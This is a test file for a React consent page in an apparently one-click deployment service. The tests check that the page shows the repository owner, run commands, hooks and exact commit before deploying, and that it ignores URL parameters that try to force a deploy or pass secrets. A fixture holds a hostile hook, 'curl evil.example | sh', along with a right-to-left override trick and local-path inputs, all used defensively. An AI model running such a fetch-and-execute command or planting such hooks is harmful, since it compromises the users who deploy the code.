import { cleanup, render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, beforeEach, expect, it, vi } from "vitest";
import { ConsentPage } from "./ConsentPage";

const SHA = "ab12".repeat(10);
const FOUND = {
  source: "https://github.com/eve/shop",
  owner: "eve",
  commit: { sha: SHA, subject: "Sell \u202eapples", at: null, dirty: false },
  private: false,
  own: false,
  first_seen: true,
  plan: { language: "python", framework: "flask", reason: null },
  dockerfile: "",
  runs: ["pip install -r requirements.txt", "gunicorn app:app"],
  widens: [{ what: "Python runs it while dependencies are installed", file: "setup.py" }],
  hooks: ["postcreate: curl evil.example | sh"],
  env: [
    { name: "API_URL", description: "Where it asks", required: true, value: "", generated: false, secret: false },
    { name: "MODE", description: "", required: false, value: "fast", generated: false, secret: false },
    { name: "SESSION_SECRET", description: "", required: false, value: "made-up-by-the-server", generated: true, secret: true },
  ],
  app: { name: "Shop", description: "A shop", success_url: "" },
  candidates: [] as { dir: string; summary: string }[],
  isolation: { level: "L1", detail: "sandbox" },
  note: "",
};

let asked: { method: string; path: string; body: unknown }[] = [];
let answers: Record<string, unknown> = {};
beforeEach(() => {
  asked = [];
  answers = { "/api/v1/inspections": FOUND, "/api/v1/button": { conversation: "cnv_1", deployment: "dep_1", app: "shop" } };
  history.replaceState(null, "", "/new");
  vi.stubGlobal("fetch", (path: string, { method, body }: RequestInit) => {
    asked.push({ method: method ?? "GET", path, body: body ? JSON.parse(String(body)) : undefined });
    const answer = answers[path];
    const status = (answer as { code?: string }).code ? 409 : 200;
    return Promise.resolve(new Response(JSON.stringify(answer), { status }));
  });
});
afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

const open = (query: string) => render(<ConsentPage search={new URLSearchParams(query)} />);
const look = () => userEvent.click(screen.getByRole("button", { name: "Look at the repository" }));

it("does nothing when it is opened, and says what of its address it ignores", () => {
  open("repo=eve/shop&deploy=now&env=TOKEN=hunter2");
  expect(asked).toEqual([]);
  expect(screen.getByText(/Ignored, since it means nothing here: deploy/)).toBeTruthy();
  expect(screen.getByText(/gives values for TOKEN/)).toBeTruthy();
  expect(document.body.textContent).not.toContain("hunter2");
});

it("shows whose it is and what it runs, and deploys exactly the commit that it showed", async () => {
  open("repo=eve/shop&ref=main&name=shop&env=EXTRA_TOKEN");
  await look();
  expect(await screen.findByText(/Nothing of eve was deployed by you before/)).toBeTruthy();
  expect(screen.getByText("gunicorn app:app")).toBeTruthy();
  expect(screen.getByText("postcreate: curl evil.example | sh")).toBeTruthy();
  expect(document.body.textContent).toContain("Sell \\u{202e}apples");
  expect(document.activeElement?.textContent).toBe("Cancel");
  expect(screen.getByLabelText<HTMLInputElement>(/EXTRA_TOKEN/).type).toBe("password");
  expect(asked).toEqual([{ method: "POST", path: "/api/v1/inspections", body: { source: "eve/shop", ref: "main", dir: "." } }]);

  await userEvent.type(screen.getByLabelText(/API_URL/), "https://api.example");
  await userEvent.click(screen.getByRole("button", { name: "Deploy ab12ab1" }));
  await waitFor(() => expect(location.pathname).toBe("/conversations/cnv_1"));
  expect(asked[1]?.body).toEqual({
    source: "eve/shop",
    ref: SHA,
    dir: ".",
    name: "shop",
    env: { API_URL: "https://api.example" },
    generate: ["SESSION_SECRET"],
  });
});

it("says what kept it from being deployed, and keeps what was typed", async () => {
  answers["/api/v1/button"] = { detail: "'shop' is an app from elsewhere", fix: "Choose another name.", code: "name_taken" };
  open("repo=eve/shop&name=shop");
  await look();
  await userEvent.type(await screen.findByLabelText(/API_URL/), "x");
  await userEvent.click(screen.getByRole("button", { name: /Deploy ab12/ }));
  expect((await screen.findByRole("alert")).textContent).toContain("Choose another name.");
  expect(screen.getByLabelText<HTMLInputElement>(/API_URL/).value).toBe("x");
});

it("asks which folder is meant when there are several", async () => {
  answers["/api/v1/inspections"] = { ...FOUND, plan: { reason: "There are two apps." }, candidates: [{ dir: "web", summary: "Flask" }] };
  open("repo=eve/shop");
  await look();
  expect((await screen.findByRole("alert")).textContent).toBe("There are two apps.");
  answers["/api/v1/inspections"] = FOUND;
  await userEvent.click(screen.getByRole("button", { name: "web Flask" }));
  expect(await screen.findByRole("form", { name: "Deploy" })).toBeTruthy();
  expect((asked[1]?.body as { dir: string }).dir).toBe("web");
});

it.each(["", "repo=/etc", "repo=file:///etc"])("looks at nothing without a repository that others can reach: %s", (query) => {
  open(query);
  expect(screen.queryByRole("button", { name: "Look at the repository" })).toBeNull();
  expect(screen.getByRole("form", { name: "Repository" })).toBeTruthy();
});
